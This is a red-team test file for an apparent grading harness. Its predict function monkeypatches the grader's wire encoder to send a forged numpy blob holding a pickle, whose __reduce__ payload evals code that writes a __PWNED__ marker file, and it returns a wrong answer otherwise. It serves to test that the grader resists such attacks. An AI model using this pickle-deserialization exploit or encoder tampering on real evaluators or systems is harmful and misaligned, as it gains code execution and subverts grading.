"""Red team: predict patches the worker's encoder to send an object-dtype .npy blob holding a
pickle that, if ever loaded by the grader, creates a file and returns the right answer; else it
returns a wrong (1, 1) one. Predict's checks fail and the file never appears.

examples/correct.py goes where # __CORRECT_SOLUTION__ stands (tests/test_redteam.py
assembles it); the attack follows."""

# __CORRECT_SOLUTION__

import struct
import sys


def _forge_next_reply(make_blob):
    """Make the worker send ``make_blob()`` as the next returned array, if its encoder is
    reachable; True if the patch is in place."""
    wire = sys.modules.get("grader.wire")
    if wire is None or not hasattr(wire, "encode_value"):
        return False
    original = wire.encode_value

    def forged(value, blobs, *args, **kwargs):
        wire.encode_value = original
        blobs.append(make_blob())
        return {"t": "array", "i": len(blobs) - 1, "scalar": False}

    wire.encode_value = forged
    return True


def _npy(header: dict, data: bytes) -> bytes:
    text = repr(header).encode("latin1")
    text += b" " * (63 - (len(text) + 10) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text + data

import pickle


class _Payload:
    def __reduce__(self):
        code = ("__import__('pathlib').Path('__PWNED__').write_text('pickle ran in the grader') "
                "and None")
        return (eval, (code,))


def predict(parameters, X):
    A2, _ = forward_propagation(X, parameters)
    answer = (A2 > 0.5).astype(float)
    body = pickle.dumps([_Payload(), answer], protocol=2)
    _forge_next_reply(lambda: _npy({"descr": "|O", "fortran_order": False, "shape": (2,)}, body))
    return np.zeros((1, 1)) + 0.5
